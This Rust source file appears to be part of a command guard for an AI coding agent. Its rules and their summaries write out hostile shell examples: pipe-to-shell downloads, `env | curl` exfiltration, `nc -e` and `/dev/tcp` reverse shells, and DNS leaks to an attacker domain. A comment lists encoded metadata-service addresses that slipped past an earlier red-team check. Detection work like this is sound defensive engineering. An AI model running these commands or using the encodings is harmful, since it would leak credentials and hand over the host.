//! The network and other machines: code downloaded and run, secrets and environments sent
//! out, publishing, commands run on another host, containers given the host's files.

use super::{Judge, Rule, operands};
use crate::guard::Decision;
use crate::guard::paths::{Place, secret_kind};
use crate::guard::shell::{Analysis, Arg, Invocation, Origin, Redirect, Stdin};
use std::path::{Path, PathBuf};

pub const PIPE_TO_SHELL: Rule = Rule {
    id: "pipe-to-shell",
    decision: Decision::Deny,
    summary: "running downloaded code: `curl … | sh`, `bash <(wget …)`, `curl -o x.sh … && sh x.sh`, `wget -qO- … | python3`",
};
pub const EXFILTRATION: Rule = Rule {
    id: "exfiltration",
    decision: Decision::Deny,
    summary: "sending the environment, credentials, HOME or the repository with its secrets to the network (`env | curl -d @-`, `curl -d \"$(printenv)\"`, `tar cz ~ | ssh host`, `tar cz . | nc` with `.env`, `git credential fill | nc`)",
};
pub const EXFILTRATION_ASK: Rule = Rule {
    id: "exfiltration-computed",
    decision: Decision::Ask,
    summary: "a computed value carried out in a name lookup (`dig $(whoami).example.com`, `ping \"$h.x\"`, `nc -z \"$d\" 53`)",
};
pub const REMOTE_SHELL: Rule = Rule {
    id: "remote-shell",
    decision: Decision::Deny,
    summary: "a shell handed to another machine: `nc -e /bin/sh`, `ncat --exec`, `socat … EXEC:`, `bash -i >& /dev/tcp/…`",
};
pub const PUBLISH: Rule = Rule {
    id: "publish",
    decision: Decision::Deny,
    summary: "publishing (`cargo publish`, `npm publish`, `twine upload`, `gem push`, `docker push`, …)",
};
pub const REMOTE_EXEC: Rule = Rule {
    id: "remote-exec",
    decision: Decision::Ask,
    summary: "running a command on another machine (`ssh host cmd`, `kubectl exec`): its effects are outside anything Forge or a sandbox here can see",
};
pub const CONTAINER_HOST: Rule = Rule {
    id: "container-host",
    decision: Decision::Deny,
    summary: "a container given the host's HOME, `/`, secrets, system folders or the docker socket (`docker run -v ~:/h …`)",
};
pub const CONTAINER_PRIVILEGED: Rule = Rule {
    id: "container-privileged",
    decision: Decision::Ask,
    summary: "a privileged container (`--privileged`, host namespaces, added capabilities, devices) or one given folders outside the project",
};

/// Programs whose output comes from the network (for code piped into an interpreter).
pub(crate) const DOWNLOADERS: [&str; 14] = [
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "http",
    "https",
    "xh",
    "lwp-request",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "openssl",
];

use crate::guard::shell::INTERPRETERS;

/// Programs that send data to another machine.
const SINKS: [&str; 16] = [
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "ftp",
    "openssl", "mail", "sendmail", "http", "xh",
];

/// Cloud metadata services, which hand out the machine's credentials: a URL (or a bare host,
/// as curl takes one) anywhere in `s` whose host is one. The host is read as WHATWG URLs and
/// `inet_aton` read it (red team, round 14: `0xa9fea9fe`, `2852039166`, `169.254.43518`,
/// `METADATA.GOOGLE.INTERNAL`, `metadata`, `[fd00:ec2:0::254]` passed a substring test):
/// percent-decoded, without case, user or port, a trailing dot dropped; an IPv4 address in
/// hex, octal, one integer or the short forms, compared as an address, IPv6 too (IPv4-mapped
/// ones as their IPv4). Every link-local IPv4 address is one (AWS, Azure, GCP, OpenStack at
/// 169.254.169.254, ECS at 169.254.170.2), and so are AWS's IPv6 `fd00:ec2::254` and
/// Alibaba's 100.100.100.200. Used wherever a URL or a path is judged.
pub(crate) fn metadata_endpoint(s: &str) -> bool {
    let mut starts = vec![(0, false)];
    let mut at = 0;
    while let Some(i) = s[at..].find("://") {
        starts.push((at + i + 3, true));
        at += i + 3;
    }
    // A bare host after a space, a quote or `=` (`--url=…`) too; a bare name only when it is the
    // full `metadata.google.internal` (a file may be called `metadata`).
    for (i, c) in s.char_indices() {
        if matches!(c, ' ' | '"' | '\'' | '=' | '@' | '(' | ',') {
            starts.push((i + c.len_utf8(), false));
        }
    }
    starts
        .into_iter()
        .any(|(i, after_scheme)| metadata_host(&s[i..], after_scheme))
}

/// Whether the host at the start of `s` is a metadata service; short names (`metadata`,
/// `instance-data`) only in a URL.
fn metadata_host(s: &str, in_url: bool) -> bool {
    let end = s
        .find(['/', '?', '#', '\\', ' ', '"', '\''])
        .unwrap_or(s.len());
    let authority = crate::guard::paths::percent_decoded(&s[..end]);
    let host = authority.rsplit('@').next().unwrap_or("");
    let host = if let Some(rest) = host.strip_prefix('[') {
        rest.split(']').next().unwrap_or("")
    } else {
        host.split(':').next().unwrap_or("")
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    if host == "metadata.google.internal"
        || in_url
            && matches!(
                host.as_str(),
                "metadata"
                    | "metadata.goog"
                    | "instance-data"
                    | "instance-data.ec2.internal"
                    | "metadata.azure.internal"
            )
    {
        return true;
    }
    let v4 = |a: std::net::Ipv4Addr| {
        let o = a.octets();
        (o[0] == 169 && o[1] == 254) || o == [100, 100, 100, 200]
    };
    if let Some(a) = inet_aton(&host) {
        return v4(a);
    }
    match host.parse::<std::net::Ipv6Addr>() {
        Ok(a) => {
            a == std::net::Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254)
                || a.to_ipv4_mapped().is_some_and(v4)
        }
        Err(_) => false,
    }
}

/// An IPv4 address as `inet_aton` and WHATWG read it: one to four parts, each decimal, `0x`
/// hex or `0` octal, the last filling the bytes left (`169.254.43518`, `2852039166`).
fn inet_aton(host: &str) -> Option<std::net::Ipv4Addr> {
    let parts: Vec<&str> = host.split('.').collect();
    if parts.is_empty() || parts.len() > 4 {
        return None;
    }
    let mut nums = Vec::new();
    for p in &parts {
        let (digits, radix) = if let Some(h) = p.strip_prefix("0x") {
            (h, 16)
        } else if p.len() > 1 && p.starts_with('0') {
            (&p[1..], 8)
        } else {
            (*p, 10)
        };
        let n = if digits.is_empty() {
            0
        } else {
            u64::from_str_radix(digits, radix).ok()?
        };
        if p.is_empty() {
            return None;
        }
        nums.push(n);
    }
    let (last, head) = nums.split_last()?;
    if head.iter().any(|n| *n > 255) || *last >= 1u64 << (8 * (5 - nums.len())) {
        return None;
    }
    let mut v: u64 = 0;
    for (i, n) in head.iter().enumerate() {
        v |= n << (8 * (3 - i));
    }
    Some(std::net::Ipv4Addr::from((v | last) as u32))
}

pub(super) fn judge(j: &mut Judge, a: &Analysis, i: usize, inv: &Invocation) {
    let Some(name) = inv.name() else { return };
    let shown = inv.display();
    // Code from the network into an interpreter: through a pipe, or a substitution.
    if INTERPRETERS.contains(&name) {
        let from_pipe = matches!(inv.stdin, Stdin::Pipe)
            && inv.upstream.iter().any(|&u| {
                a.invocations[u]
                    .name()
                    .is_some_and(|n| DOWNLOADERS.contains(&n))
            });
        let from_subst = inv.args.iter().any(|w| {
            matches!(&w.arg, Arg::Dyn { programs, .. } if programs.iter().any(|p| DOWNLOADERS.contains(&p.as_str())))
        });
        if from_pipe || from_subst {
            let what = if from_pipe {
                let up: Vec<&str> = inv
                    .upstream
                    .iter()
                    .filter_map(|&u| a.invocations[u].name())
                    .collect();
                format!("{} | {name}", up.join(" | "))
            } else {
                shown.clone()
            };
            j.hit_at(&PIPE_TO_SHELL, &inv.origin, format!("`{what}` runs code straight from the network; download the file, review it, then run it"));
        }
    }
    publish(j, inv, name);
    if let Some(what) = prints_credentials(inv) {
        j.hit_at(
            &super::fs::SECRETS,
            &inv.origin,
            format!(
                "`{shown}` prints {what}; agents may not read credentials (a person can run it)"
            ),
        );
    }
    exfiltration(j, a, i, inv, name);
    taint_outputs(j, inv, name);
    remote_shell(j, inv, name);
    match name {
        "ssh" if ssh_has_command(inv) => {
            j.hit_at(&REMOTE_EXEC, &inv.origin, format!("`{shown}` runs a command on another machine, where neither Forge nor a sandbox here sees what it does; a person should run it"));
        }
        "kubectl" | "oc" if inv.lit_args().next() == Some(Some("exec")) => {
            j.hit_at(
                &REMOTE_EXEC,
                &inv.origin,
                format!("`{shown}` runs a command in a cluster's pod; a person should run it"),
            );
        }
        "docker" | "podman" | "nerdctl" => container(j, inv),
        // A name looked up carries what was computed into it to whoever serves the domain
        // (`dig $(whoami).attacker.example`): a lookup of a computed name is asked about.
        "dig" | "host" | "nslookup" | "drill" | "ping" | "ping6" | "traceroute" | "tracepath"
        | "mtr" | "whois" | "resolvectl" | "nc" | "ncat" | "netcat"
            if inv.args.iter().any(|w| matches!(w.arg, Arg::Dyn { .. })) =>
        {
            j.hit_at(&EXFILTRATION_ASK, &inv.origin, format!("`{shown}` looks up a name computed at run time, which sends what it holds to that domain's servers; a person should run it"));
        }
        _ => {}
    }
    // A URL that is a cloud metadata endpoint, whatever fetches it.
    for w in &inv.args {
        if let Some(s) = w.arg.lit()
            && metadata_endpoint(s)
            && matches!(
                name,
                "curl" | "wget" | "http" | "xh" | "nc" | "python" | "python3" | "node"
            )
        {
            j.hit_at(
                &super::fs::SECRETS,
                &inv.origin,
                format!("`{shown}` asks the cloud metadata service for the machine's credentials"),
            );
        }
    }
}

/// A shell whose input and output go to another machine.
fn remote_shell(j: &mut Judge, inv: &Invocation, name: &str) {
    let lits: Vec<&str> = inv.lit_args().flatten().collect();
    let shown = inv.display();
    let hit = match name {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => lits.iter().any(|a| {
            matches!(*a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
                || a.starts_with("--exec=")
                || a.starts_with("--sh-exec=")
                || (a.starts_with('-')
                    && !a.starts_with("--")
                    && (a.ends_with('e') || a.ends_with('c'))
                    && a.len() <= 4)
        }),
        "socat" => lits.iter().any(|a| {
            let u = a.to_ascii_uppercase();
            u.starts_with("EXEC:")
                || u.starts_with("SYSTEM:")
                || u.contains(",EXEC:")
                || u.starts_with("EXEC,")
        }),
        _ => false,
    };
    if hit {
        j.hit_at(
            &REMOTE_SHELL,
            &inv.origin,
            format!(
                "`{shown}` hands a shell to another machine; agents may not open remote shells"
            ),
        );
    }
}

fn ssh_has_command(inv: &Invocation) -> bool {
    const VALUE: &str = "bcDEeFIiJLlmOopQRSWw";
    let mut i = 0;
    let args = &inv.args;
    while i < args.len() {
        match args[i].arg.lit() {
            Some(a) if a.starts_with('-') && a.len() >= 2 => {
                let last = a.chars().last().unwrap_or(' ');
                i += if a.len() == 2 && VALUE.contains(last) {
                    2
                } else {
                    1
                };
            }
            _ => break,
        }
    }
    // A host and then a command, or a script on standard input.
    args.len() > i + 1
        || (args.len() == i + 1 && matches!(inv.stdin, Stdin::Text(_) | Stdin::File(_)))
}

fn publish(j: &mut Judge, inv: &Invocation, name: &str) {
    let args: Vec<&str> = inv.lit_args().flatten().collect();
    let sub = args.iter().find(|a| !a.starts_with('-')).copied();
    let publishing = match name {
        "cargo" | "npm" | "pnpm" | "poetry" | "uv" | "flit" | "hatch" | "vsce" | "ovsx" => {
            sub == Some("publish")
        }
        "yarn" => sub == Some("publish") || (sub == Some("npm") && args.contains(&"publish")),
        "twine" => sub == Some("upload"),
        "gem" => sub == Some("push"),
        "docker" | "podman" => {
            sub == Some("push") || (sub == Some("image") && args.contains(&"push"))
        }
        "mvn" => args.contains(&"deploy"),
        "dotnet" => sub == Some("nuget") && args.contains(&"push"),
        "helm" => sub == Some("push"),
        _ => false,
    };
    if publishing {
        j.hit_at(
            &PUBLISH,
            &inv.origin,
            format!(
                "`{}` publishes to a registry; releases are a person's decision",
                inv.display()
            ),
        );
    }
}

/// Commands whose output is a credential: running them shows it to the agent (and whoever
/// reads its transcript).
pub(super) fn prints_credentials(inv: &Invocation) -> Option<&'static str> {
    let name = inv.name()?;
    let l: Vec<&str> = inv.lit_args().flatten().collect();
    let has = |s: &str| l.contains(&s);
    Some(match name {
        "gh" if has("auth") && has("token") => "a GitHub token",
        "glab" if has("auth") && l.iter().any(|a| a.contains("token")) => "a GitLab token",
        "gcloud"
            if l.iter().any(|a| {
                a.starts_with("print-access-token") || a.starts_with("print-identity-token")
            }) =>
        {
            "a cloud token"
        }
        "aws"
            if l.iter().any(|a| {
                matches!(
                    *a,
                    "export-credentials" | "get-session-token" | "get-login-password"
                )
            }) || (has("configure") && has("get") && l.iter().any(|a| a.contains("secret"))) =>
        {
            "cloud credentials"
        }
        "az" if has("get-access-token") => "a cloud token",
        "kubectl" | "oc" if has("--raw") || l.iter().any(|a| a.starts_with("--show-secret")) => {
            "cluster credentials"
        }
        "pass" | "gopass"
            if l.first().is_some_and(|a| {
                !matches!(
                    *a,
                    "ls" | "list"
                        | "find"
                        | "search"
                        | "init"
                        | "git"
                        | "--help"
                        | "insert"
                        | "generate"
                        | "rm"
                )
            }) =>
        {
            "a stored password"
        }
        "op" if has("read") || l.iter().any(|a| a.starts_with("--reveal")) => "a stored password",
        "security"
            if l.iter()
                .any(|a| a.starts_with("find-") && a.ends_with("password")) =>
        {
            "a keychain password"
        }
        "vault" if has("read") || (has("kv") && has("get")) => "a stored secret",
        "gpg" | "gpg2" if l.iter().any(|a| a.starts_with("--export-secret")) => "private keys",
        "heroku" if has("auth:token") => "an API token",
        "doctl" if has("auth") && has("token") => "an API token",
        n if n.starts_with("docker-credential-") && has("get") => "registry credentials",
        "printenv"
            if l.iter()
                .any(|a| !a.starts_with('-') && secret_var(&format!("${a}"))) =>
        {
            "a secret from the environment"
        }
        "echo" | "printf"
            if inv.upstream.is_empty()
                && inv
                    .args
                    .iter()
                    .any(|w| matches!(&w.arg, Arg::Dyn { raw, .. } if secret_var(raw))) =>
        {
            "a secret from the environment"
        }
        _ => return None,
    })
}

/// Why a command's output is sensitive, if it is: the environment, credentials, an archive
/// of HOME.
fn sensitive(j: &Judge, inv: &Invocation) -> Option<String> {
    let name = inv.name()?;
    if let Some(what) = prints_credentials(inv) {
        return Some(what.to_string());
    }
    let lits: Vec<&str> = inv.lit_args().flatten().collect();
    match name {
        "env" | "printenv"
            if inv.wrappers.is_empty() || lits.iter().all(|a| a.starts_with('-')) =>
        {
            return Some("the environment (tokens and keys)".into());
        }
        "printenv" => return Some("environment variables".into()),
        "set" | "export" | "declare" | "typeset" | "compgen" => {
            return Some("the shell's variables (tokens and keys)".into());
        }
        "history" | "fc" => {
            return Some("the shell's history (tokens typed on the command line)".into());
        }
        "ps" if lits.iter().any(|a| {
            (!a.starts_with('-') && a.contains('e')) || (a.starts_with('-') && a.contains('E'))
        }) =>
        {
            return Some("the environment of running processes".into());
        }
        "git"
            if lits.iter().any(|a| matches!(*a, "fill" | "get"))
                && lits.iter().any(|a| a.starts_with("credential")) =>
        {
            return Some("stored git credentials".into());
        }
        "gh" if lits.starts_with(&["auth", "token"]) => return Some("a GitHub token".into()),
        "gcloud"
            if lits.iter().any(|a| {
                a.starts_with("print-access-token") || a.starts_with("print-identity-token")
            }) =>
        {
            return Some("a cloud token".into());
        }
        "aws"
            if lits.iter().any(|a| {
                matches!(
                    *a,
                    "export-credentials" | "get-session-token" | "get-login-password"
                )
            }) =>
        {
            return Some("cloud credentials".into());
        }
        "az" if lits.contains(&"get-access-token") => return Some("a cloud token".into()),
        "kubectl" if lits.contains(&"--raw") => return Some("cluster credentials".into()),
        "tar" | "zip" | "7z" | "cpio" | "rsync" | "scp" | "cp" | "cat" | "base64" | "xxd"
        | "gzip" | "bzip2" | "xz" | "zstd" | "head" | "tail" | "od" | "strings" => {
            for w in operands(&inv.args) {
                let Some(raw) = w.arg.lit() else { continue };
                for p in j.resolve_all(raw, &inv.cwd, &inv.origin) {
                    if j.paths.touches_home(&p)
                        && !p.starts_with(&j.paths.root)
                        && matches!(j.paths.place(&p), Place::Outside | Place::RepoAncestor)
                        && !crate::guard::paths::is_file(&p)
                    {
                        return Some(format!("{} (HOME and everything in it)", p.display()));
                    }
                    if let Some(kind) = secret_kind(&p, &j.paths.home) {
                        return Some(kind.to_string());
                    }
                    if let Some(s) = secret_in_folder(j, inv, name, &p) {
                        return Some(format!(
                            "{} with the secrets in it ({})",
                            p.display(),
                            s.display()
                        ));
                    }
                }
            }
        }
        _ => {}
    }
    // `echo "$AWS_SECRET_ACCESS_KEY"`: a variable named like a secret.
    if matches!(name, "echo" | "printf" | "cat") {
        for w in &inv.args {
            if let Arg::Dyn { raw, .. } = &w.arg
                && secret_var(raw)
            {
                return Some(format!("`{raw}`"));
            }
        }
    }
    None
}

/// A secret file directly in a folder an archiver or copier takes whole (`tar czf - .` of a
/// repository with its `.env`), unless the command leaves it out (`--exclude=.env`). One level
/// only, and bounded: the hook runs on every call.
fn secret_in_folder(j: &Judge, inv: &Invocation, name: &str, dir: &Path) -> Option<PathBuf> {
    if !crate::guard::paths::is_dir(dir) {
        return None;
    }
    let excluded: Vec<String> = super::targets::data_args(inv, name)
        .iter()
        .filter_map(|w| w.arg.lit())
        .map(|s| {
            s.rsplit_once('=')
                .map_or(s, |(_, v)| v)
                .trim_start_matches("./")
                .to_string()
        })
        .collect();
    for e in std::fs::read_dir(dir).ok()?.take(2000).flatten() {
        let p = e.path();
        if secret_kind(&p, &j.paths.home).is_none() || !crate::guard::paths::is_file(&p) {
            continue;
        }
        let file = e.file_name().to_string_lossy().to_string();
        let chars: Vec<char> = file.chars().collect();
        if excluded.iter().any(|x| {
            let pat: Vec<char> = x.chars().collect();
            crate::guard::shell::glob_match(&pat, &chars, false)
        }) {
            continue;
        }
        return Some(p);
    }
    None
}

fn secret_var(raw: &str) -> bool {
    let up = raw.to_ascii_uppercase();
    up.contains('$')
        && crate::secrets::ENV_NAME_WORDS
            .iter()
            .chain(&["AUTH"])
            .any(|k| up.contains(k))
}

fn is_sink(inv: &Invocation) -> bool {
    let Some(name) = inv.name() else { return false };
    if SINKS.contains(&name) {
        return name != "openssl" || inv.lit_args().any(|a| a == Some("s_client"));
    }
    match name {
        "rsync" => inv.lit_args().flatten().any(super::fs::is_remote),
        "aws" => inv.lit_args().flatten().any(|a| a.starts_with("s3://")),
        "gsutil" | "rclone" => true,
        "gh" => inv.lit_args().any(|a| a == Some("gist")),
        "git" => inv.lit_args().any(|a| a == Some("push")),
        _ => false,
    }
}

fn exfiltration(j: &mut Judge, a: &Analysis, _i: usize, inv: &Invocation, _name: &str) {
    if !is_sink(inv) {
        return;
    }
    let shown = inv.display();
    // A copier that sends a sensitive source itself (`rsync -a . host:/srv` with `.env`).
    if matches!(_name, "rsync" | "scp")
        && let Some(why) = sensitive(j, inv)
    {
        j.hit_at(
            &EXFILTRATION,
            &inv.origin,
            format!("`{shown}` sends {why} to another machine; agents may not send secrets out"),
        );
        return;
    }
    // A sensitive stage earlier in the pipeline.
    for &u in &inv.upstream {
        if let Some(why) = sensitive(j, &a.invocations[u]) {
            j.hit_at(
                &EXFILTRATION,
                &inv.origin,
                format!(
                    "`{shown}` sends {why} to another machine; agents may not send secrets out"
                ),
            );
            return;
        }
    }
    // `curl -d "$(env)"`: a substitution that runs a sensitive command.
    for w in &inv.args {
        if let Arg::Dyn { programs, raw } = &w.arg
            && (programs
                .iter()
                .any(|p| matches!(p.as_str(), "env" | "printenv" | "set" | "export"))
                || secret_var(raw))
        {
            j.hit_at(&EXFILTRATION, &inv.origin, format!("`{shown}` sends the output of `{raw}` to another machine; agents may not send secrets out"));
            return;
        }
    }
    // A file written earlier on the line from a sensitive command (`env > /tmp/e; curl -F
    // f=@/tmp/e`).
    for w in &inv.args {
        let Some(raw) = w.arg.lit() else { continue };
        let raw = raw.rsplit_once('=').map_or(raw, |(_, v)| v);
        let raw = raw.strip_prefix('@').unwrap_or(raw);
        for p in j.resolve_all(raw, &inv.cwd, &inv.origin) {
            if j.tainted.contains(&p) {
                j.hit_at(&EXFILTRATION, &inv.origin, format!("`{shown}` sends {}, written earlier on this line from the environment, credentials or secrets", p.display()));
                return;
            }
        }
    }
    if let Stdin::File(w) = &inv.stdin
        && let Some(raw) = w.arg.lit()
    {
        for p in j.resolve_all(raw, &inv.cwd, &inv.origin) {
            if j.tainted.contains(&p) {
                j.hit_at(&EXFILTRATION, &inv.origin, format!("`{shown}` sends {}, written earlier on this line from the environment, credentials or secrets", p.display()));
                return;
            }
        }
    }
}

/// An archive or copy of something sensitive, written to a file: the file is sensitive too
/// (`tar czf /tmp/h.tgz ~ && curl -T /tmp/h.tgz …`).
fn taint_outputs(j: &mut Judge, inv: &Invocation, name: &str) {
    if !matches!(
        name,
        "tar" | "zip" | "7z" | "cp" | "rsync" | "gzip" | "base64" | "gpg"
    ) || sensitive(j, inv).is_none()
    {
        return;
    }
    let ops = operands(&inv.args);
    let lits: Vec<&str> = inv.lit_args().flatten().collect();
    let mut outs: Vec<String> =
        super::option_values(&inv.args, &["-f", "-o"], &["--file", "--output"])
            .iter()
            .filter_map(|w| w.arg.lit().map(str::to_string))
            .collect();
    match name {
        "tar"
            if outs.is_empty()
                && lits
                    .first()
                    .is_some_and(|m| !m.starts_with('-') && m.contains('f')) =>
        {
            outs.extend(lits.get(1).map(|s| s.to_string()));
        }
        "zip" | "7z" => outs.extend(
            ops.iter()
                .find(|w| w.arg.lit().is_some_and(|s| s != "a"))
                .and_then(|w| w.arg.lit())
                .map(str::to_string),
        ),
        "cp" | "rsync" => outs.extend(ops.last().and_then(|w| w.arg.lit()).map(str::to_string)),
        _ => {}
    }
    for o in outs {
        for p in j.resolve_all(&o, &inv.cwd, &inv.origin) {
            j.tainted.push(p);
        }
    }
}

/// A redirection: a sensitive command's output written to a file taints it; written to
/// `/dev/tcp/…` it leaves the machine.
pub(super) fn judge_redirect(j: &mut Judge, _a: &Analysis, r: &Redirect, by: Option<&Invocation>) {
    let Some(by) = by else { return };
    let to_net = r
        .target
        .arg
        .lit()
        .is_some_and(|s| s.starts_with("/dev/tcp/") || s.starts_with("/dev/udp/"));
    if to_net && by.name().is_some_and(|n| INTERPRETERS.contains(&n)) {
        j.hit_at(
            &REMOTE_SHELL,
            &r.origin,
            format!(
                "`{}` connects a shell to {}; agents may not open remote shells",
                by.display(),
                r.target.arg.display()
            ),
        );
        return;
    }
    let Some(why) = sensitive(j, by) else { return };
    let Some(raw) = r.target.arg.lit() else {
        return;
    };
    for p in j.resolve_all(raw, &r.cwd, &r.origin) {
        if j.paths.place(&p) == Place::Network {
            j.hit_at(
                &EXFILTRATION,
                &r.origin,
                format!("`{}` sends {why} to {}", by.display(), p.display()),
            );
        } else {
            j.tainted.push(p);
        }
    }
}

/// Bind mounts and privileges of `docker run` (and `podman`, `nerdctl`).
fn container(j: &mut Judge, inv: &Invocation) {
    let lits: Vec<Option<&str>> = inv.lit_args().collect();
    let verb = lits.iter().flatten().find(|a| !a.starts_with('-')).copied();
    if !matches!(verb, Some("run" | "create" | "container")) {
        return;
    }
    let shown = inv.display();
    let base = inv.cwd.one().map(std::path::Path::to_path_buf);
    let mut i = 0;
    while i < lits.len() {
        let Some(a) = lits[i] else {
            i += 1;
            continue;
        };
        let (flag, inline) = match a.split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f, Some(v)),
            _ => (a, None),
        };
        let value = inline.or_else(|| lits.get(i + 1).copied().flatten());
        match flag {
            "-v" | "--volume" | "--mount" => {
                if let Some(v) = value {
                    let src = if flag == "--mount" {
                        v.split(',')
                            .find_map(|kv| {
                                kv.strip_prefix("source=")
                                    .or_else(|| kv.strip_prefix("src="))
                            })
                            .map(str::to_string)
                    } else {
                        v.split(':').next().map(str::to_string)
                    };
                    if let Some(s) = src {
                        mount(j, inv, &s, &base, &shown);
                    }
                }
            }
            "--privileged" => {
                j.hit_at(&CONTAINER_PRIVILEGED, &inv.origin, format!("`{shown}` runs a privileged container, which can reach the host; a person should run it"));
            }
            "--pid" | "--net" | "--network" | "--ipc" | "--uts" | "--userns"
                if value == Some("host") =>
            {
                j.hit_at(
                    &CONTAINER_PRIVILEGED,
                    &inv.origin,
                    format!(
                        "`{shown}` shares the host's {} namespace with the container",
                        &flag[2..]
                    ),
                );
            }
            "--cap-add" | "--device" | "--security-opt" => {
                j.hit_at(
                    &CONTAINER_PRIVILEGED,
                    &inv.origin,
                    format!("`{shown}` gives the container more of the host ({flag})"),
                );
            }
            _ => {}
        }
        i += if inline.is_none()
            && matches!(
                flag,
                "-v" | "--volume"
                    | "--mount"
                    | "--pid"
                    | "--net"
                    | "--network"
                    | "--ipc"
                    | "--uts"
                    | "--userns"
                    | "--cap-add"
                    | "--device"
                    | "--security-opt"
            ) {
            2
        } else {
            1
        };
        if !a.starts_with('-') && i > 1 {
            // The image: options end here.
            break;
        }
    }
}

fn mount(
    j: &mut Judge,
    inv: &Invocation,
    src: &str,
    base: &Option<std::path::PathBuf>,
    shown: &str,
) {
    if !(src.starts_with('/') || src.starts_with('.') || src.starts_with('~')) {
        return; // a named volume
    }
    let host = if let Some(rest) = src.strip_prefix('~') {
        j.paths.home.join(rest.trim_start_matches('/'))
    } else if src.starts_with('/') {
        std::path::PathBuf::from(src)
    } else {
        match base {
            Some(b) => b.join(src),
            None => return,
        }
    };
    let host = crate::guard::paths::real(&host);
    let place = j.paths.place(&host);
    let system = [
        "/etc",
        "/root",
        "/proc",
        "/sys",
        "/dev",
        "/boot",
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/var/lib",
    ]
    .iter()
    .any(|d| host.starts_with(d));
    let secret = secret_kind(&host, &j.paths.home).is_some();
    if j.paths.touches_home(&host) && !host.starts_with(&j.paths.root)
        || place == Place::RepoAncestor
        || system
        || secret
    {
        j.hit_at(&CONTAINER_HOST, &inv.origin, format!("`{shown}` gives a container {} of the host; containers run as root outside any sandbox", host.display()));
    } else if matches!(
        place,
        Place::Outside
            | Place::Device
            | Place::Git
            | Place::ForgeState
            | Place::ForgeRunState
            | Place::AgentConfig
    ) {
        j.hit_at(
            &CONTAINER_PRIVILEGED,
            &inv.origin,
            format!(
                "`{shown}` gives a container {}, outside the project",
                host.display()
            ),
        );
    }
}

/// Downloaded code run later in the line (`curl -o x.sh … && sh x.sh`), found by the walker.
pub(super) fn downloaded_code(j: &mut Judge, what: &str, origin: &Origin) {
    j.hit_at(&PIPE_TO_SHELL, origin, format!("`{what}` runs code downloaded earlier on this line; download it, review it, then run it"));
}
